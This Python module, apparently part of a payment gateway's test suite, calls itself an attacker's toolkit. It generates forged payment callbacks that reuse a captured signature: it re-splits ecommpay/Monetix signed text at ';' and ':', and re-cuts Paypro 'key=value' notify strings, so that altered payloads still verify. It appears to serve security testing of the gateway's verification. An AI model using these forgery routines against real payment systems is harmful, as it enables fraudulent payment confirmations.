"""The attacker's toolkit against the providers' signature schemes, as someone holding only what
the gateway shows would use it.

ecommpay/Monetix sign `path:value` entries sorted by path and joined by `;`, escaping nothing in
a value. Whoever holds a valid signature over a text (a Payment Page URL the gateway built) can
post any JSON document whose flattened text is that same text: `derived_documents` enumerates
them, re-splitting the text at `;` and each entry at `:` in every way the sort allows.

Paypro signs `key=value` pairs concatenated with no separator: `resplits` re-cuts a signed notify
at every position where one of the notify's field names starts, keeping the signature valid.

Every document made here is checked to flatten to the text it was derived from (the gateway's own
flattening, the one its verification uses), so each one carries the signature the attacker saw.
"""

from __future__ import annotations

import contextlib
import json
import random
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from paygate.providers.paypro import signing as paypro_signing
from paygate.providers.platform import signing as platform_signing

# Top-level keys a platform callback model reads (the docs' callback objects); an entry whose
# path starts with one of them is "relevant", any other is an unknown top-level key.
CALLBACK_KEYS = frozenset(
    {
        "project_id",
        "payment",
        "operation",
        "account",
        "customer",
        "errors",
        "redirect_data",
        "display_data",
        "clarification_fields",
    }
)
# Paths the platform's flattening leaves out: no derived document can carry them.
_UNSIGNED = frozenset({"signature", "frame_mode"})
# Paypro's notify fields (its "Payment Notify API").
NOTIFY_KEYS = (
    "amount",
    "message",
    "platFormTradeNo",
    "status",
    "successTime",
    "timestamp",
    "tradeNo",
)
PAYMENT_IDS = re.compile(r"(?:pay|po)_[0-9]{14}[0-9a-f]{10}")


# -- platform: the signed Payment Page ----------------------------------------------------------


def page_of(url: str) -> tuple[dict[str, str], str]:
    """The signed parameters of a Payment Page URL and its signature (as the browser sees them)."""
    pairs = parse_qsl(urlsplit(url).query, keep_blank_values=True)
    params = dict(pairs)
    signature = params.pop("signature")
    return params, signature


def page_text(url: str) -> tuple[str, str]:
    """The text the Payment Page URL's signature covers, and that signature."""
    params, signature = page_of(url)
    return payment_page_text(params), signature


def payment_page_text(params: Mapping[str, str]) -> str:
    """The text a Payment Page signature covers for `params`."""
    return platform_signing.string_to_sign(params)


def platform_sign(document: Mapping[str, Any], secret: str) -> str:
    """A platform signature over `document` (for the tests that assume a signing oracle)."""
    return platform_signing.sign(document, secret)


def _segments(path: str) -> list[str] | None:
    """A flattened path's keys (`:` separates, `::` is a literal colon), or None when the path
    cannot be one the flattening makes (an empty text)."""
    if not path:
        return None
    keys, current, i = [], [], 0
    while i < len(path):
        if path.startswith("::", i):
            current.append(":")
            i += 2
        elif path[i] == ":":
            keys.append("".join(current))
            current = []
            i += 1
        else:
            current.append(path[i])
            i += 1
    keys.append("".join(current))
    return keys


def _path_choices(atom: str) -> Iterator[tuple[str, str]]:
    """Every (path, value) an entry text can be read as: cut at any `:`."""
    for at, char in enumerate(atom):
        if char == ":":
            yield atom[:at], atom[at + 1 :]


def _relevant(path: str) -> bool:
    keys = _segments(path)
    return bool(keys) and keys[0] in CALLBACK_KEYS  # type: ignore[index]


def _as_json_value(text: str, numbers: bool) -> Any:
    if numbers and re.fullmatch(r"0|[1-9][0-9]{0,17}", text):
        return int(text)
    return text


def document_of(
    entries: Sequence[tuple[str, str]], *, numbers: bool = True
) -> dict[str, Any] | None:
    """The JSON document whose flattening is exactly `entries` (paths sorted as given), or None
    when no document has them (a path both a leaf and a parent, a path the flattening leaves out,
    an empty key). Objects whose keys are 0..n-1 become arrays, as a sender would make them."""
    root: dict[str, Any] = {}
    for path, value in entries:
        keys = _segments(path)
        if not keys or any(k in _UNSIGNED or k == "" for k in keys):
            return None
        node = root
        for key in keys[:-1]:
            child = node.setdefault(key, {})
            if not isinstance(child, dict):
                return None
            node = child
        if keys[-1] in node:
            return None
        node[keys[-1]] = _as_json_value(value, numbers)
    return _arrays(root)  # type: ignore[no-any-return]


def _arrays(node: Any) -> Any:
    if not isinstance(node, dict):
        return node
    items = {key: _arrays(value) for key, value in node.items()}
    if (
        items
        and sorted(items) == sorted(str(i) for i in range(len(items)))
        and all(k == str(int(k)) for k in items)
    ):
        return [items[str(i)] for i in range(len(items))]
    return items


def flattens_to(document: Mapping[str, Any], text: str) -> bool:
    return platform_signing.string_to_sign(document) == text


def derived_documents(
    text: str, *, limit: int | None = None, rng: random.Random | None = None
) -> list[dict[str, Any]]:
    """The callback-shaped documents the signed `text` can be re-read as, one per difference a
    callback model can see (the entries under the keys a callback has, `CALLBACK_KEYS`, and
    whether any other top-level key is there). Each flattens to `text` exactly.

    Entries are consecutive `;`-separated pieces of `text` (a value may swallow further pieces),
    each cut at one of its `:` into path and value; paths strictly ascending, as the sort
    demands. Pieces no relevant entry starts are swallowed by one other entry (its path the
    smallest the sort allows: as permissive as the sort gets).

    Without `limit`: all of them. With it: all of them when there are at most `limit`, else
    `limit` different ones: the first half in the walk's own order (shortest paths and values
    first: the readings closest to the text's own), the rest each the first a walk finds taking
    the choices in the order `rng` shuffles them to (a search explores different ones)."""
    reader = _Reader(text)
    if limit is None:
        reader.walk(None)
        return reader.documents()
    with contextlib.suppress(_Enough, _OutOfBudget):
        reader.walk(None, stop_at=limit + 1, budget=limit * 200)
        return reader.documents()
    found = dict(list(reader.found.items())[: limit // 2])
    rng = rng or random.Random(0)
    sampled = _Reader(text)
    sampled.found = found
    for _ in range(limit * 4):
        with contextlib.suppress(_Enough, _OutOfBudget):
            sampled.walk(rng, stop_at=len(sampled.found) + 1, budget=2_000)
        if len(sampled.found) >= limit:
            break
    return sampled.documents()


class _Enough(Exception):
    pass


class _OutOfBudget(Exception):
    pass


class _Reader:
    """The readings of one signed text (see `derived_documents`)."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.atoms = text.split(";")
        self.relevant_at = [any(_relevant(p) for p, _ in _path_choices(a)) for a in self.atoms]
        self.found: dict[str, dict[str, Any]] = {}

    def documents(self) -> list[dict[str, Any]]:
        return list(self.found.values())

    def walk(
        self, rng: random.Random | None, stop_at: int | None = None, budget: int | None = None
    ) -> None:
        """Visit readings (choices shuffled by `rng`), until `stop_at` documents are known
        (`_Enough`) or `budget` choices were tried (`_OutOfBudget`)."""
        left = [budget]

        def starts(i: int, previous: str | None, entries: list[tuple[str, str]]) -> None:
            if i == len(self.atoms):
                self._add(entries, stop_at)
                return
            for path, end in self._choices(i, previous, rng):
                if left[0] is not None:
                    left[0] -= 1
                    if left[0] < 0:
                        raise _OutOfBudget
                value = ";".join([self.atoms[i][len(path) + 1 :], *self.atoms[i + 1 : end]])
                starts(end, path, [*entries, (path, value)])

        starts(0, None, [])

    def _add(self, entries: list[tuple[str, str]], stop_at: int | None) -> None:
        document = document_of(entries)
        if document is None or not flattens_to(document, self.text):
            return
        seen = {k: v for k, v in document.items() if k in CALLBACK_KEYS}
        key = json.dumps([seen, bool(document.keys() - CALLBACK_KEYS)], sort_keys=True)
        self.found.setdefault(key, document)
        if stop_at is not None and len(self.found) >= stop_at:
            raise _Enough

    def _choices(
        self, i: int, previous: str | None, rng: random.Random | None
    ) -> list[tuple[str, int]]:
        """(path, end) for an entry starting at piece `i`: a relevant path may end anywhere, the
        smallest other path ends where a piece a relevant entry can start begins."""
        options: list[tuple[str, int]] = []
        other = False
        last = len(self.atoms)
        for path, _ in _path_choices(self.atoms[i]):
            if previous is not None and path <= previous:
                continue
            if _relevant(path):
                options += [(path, end) for end in range(i + 1, last + 1)]
            elif not other:
                other = True
                ends = range(i + 1, last + 1)
                options += [(path, e) for e in ends if e == last or self.relevant_at[e]]
        if rng is not None:
            rng.shuffle(options)
        return options


def signed_body(document: Mapping[str, Any], signature: str) -> bytes:
    """The document as posted, with the signature the attacker saw at the root."""
    return json.dumps({**document, "signature": signature}, ensure_ascii=False).encode()


def forged_callback(text: str, entries: Sequence[tuple[str, str]]) -> dict[str, Any]:
    """The document made of `entries` (path, value), which must flatten to `text`."""
    document = document_of(entries)
    assert document is not None, entries
    assert platform_signing.string_to_sign(document) == text, (
        platform_signing.string_to_sign(document),
        text,
    )
    return document


# -- Paypro: the signed notify --------------------------------------------------------------------


def resplits(fields: Mapping[str, Any]) -> list[dict[str, str]]:
    """Every other notify whose signed text equals `fields`' (so its `sign` stays valid): the
    concatenated `key=value` text re-cut wherever a notify field name followed by `=` starts,
    keys strictly ascending, no value empty. The original cut is left out; each result has the
    original `sign`."""
    text = paypro_signing.string_to_sign(fields)
    starts = sorted(
        {
            (match.start(), key)
            for key in NOTIFY_KEYS
            for match in re.finditer(re.escape(key + "="), text)
        }
    )
    found: list[dict[str, str]] = []

    def cut(at: int, previous: str, pairs: list[tuple[str, str]]) -> None:
        for start, key in starts:
            if start != at or key <= previous:
                continue
            value_from = start + len(key) + 1
            for end in [s for s, _ in starts if s > value_from] + [len(text)]:
                pair = (key, text[value_from:end])
                if end == len(text):
                    found.append(dict([*pairs, pair]))
                else:
                    cut(end, key, [*pairs, pair])

    cut(0, "", [])
    original = {k: str(v) for k, v in fields.items() if k != "sign" and str(v) != ""}
    sign = str(fields["sign"])
    documents = []
    for document in found:
        if document == original:
            continue
        assert paypro_signing.string_to_sign(document) == text
        documents.append({**document, "sign": sign})
    return documents
